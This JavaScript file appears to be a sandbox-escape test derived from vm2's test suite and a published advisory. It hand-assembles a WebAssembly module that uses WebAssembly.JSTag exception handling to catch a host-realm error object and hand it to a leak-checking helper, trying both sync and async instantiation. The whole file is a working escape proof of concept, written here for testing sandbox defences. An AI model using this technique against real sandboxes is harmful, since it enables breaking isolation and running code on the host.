// Source: vm2 test/vm.js "WebAssembly.JSTag escape via wasm exception handling" and docs/ATTACKS.md
// Category 17 (GHSA-ffh4-j6h5-pg66, "WASM Sandbox Escape"). WebAssembly.JSTag exists from Node 24;
// this sandbox also turns WebAssembly compilation off.
// Tried: a wasm module whose try_table/catch with WebAssembly.JSTag catches the host TypeError thrown
// by an imported function (a Symbol-named error's stack) and returns it raw, outside any JS catch.
const out = { JSTag: typeof WebAssembly !== 'undefined' ? typeof WebAssembly.JSTag : 'no WebAssembly' };
const err = new Error('x');
err.name = Symbol();
const wasm = new Uint8Array([
  0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00,
  0x01, 0x0c, 0x03, 0x60, 0x00, 0x00, 0x60, 0x00, 0x01, 0x6f, 0x60, 0x01, 0x6f, 0x00,
  0x02, 0x19, 0x02,
  0x03, 0x65, 0x6e, 0x76, 0x07, 0x74, 0x72, 0x69, 0x67, 0x67, 0x65, 0x72, 0x00, 0x00,
  0x02, 0x6a, 0x73, 0x03, 0x74, 0x61, 0x67, 0x04, 0x00, 0x02,
  0x03, 0x02, 0x01, 0x01,
  0x07, 0x0f, 0x01,
  0x0b, 0x63, 0x61, 0x74, 0x63, 0x68, 0x5f, 0x65, 0x72, 0x72, 0x6f, 0x72, 0x00, 0x01,
  0x0a, 0x12, 0x01, 0x10, 0x00,
  0x02, 0x6f, 0x1f, 0x40, 0x01, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x0b, 0x00, 0x0b, 0x0b,
]);
try {
  const instance = new WebAssembly.Instance(new WebAssembly.Module(wasm), { env: { trigger() { err.stack; } }, js: { tag: WebAssembly.JSTag } });
  const hostError = instance.exports.catch_error();
  out.caught = typeof hostError;
  __wr.use(hostError, 'value caught by wasm');
} catch (e) {
  out.error = String(e.message).slice(0, 120);
}
try {
  const r = await WebAssembly.instantiate(wasm, { env: { trigger() { err.stack; } }, js: { tag: WebAssembly.JSTag } });
  __wr.use(r.instance.exports.catch_error(), 'async instantiate');
} catch (e) { out.async = String(e.message).slice(0, 120); }
return out;
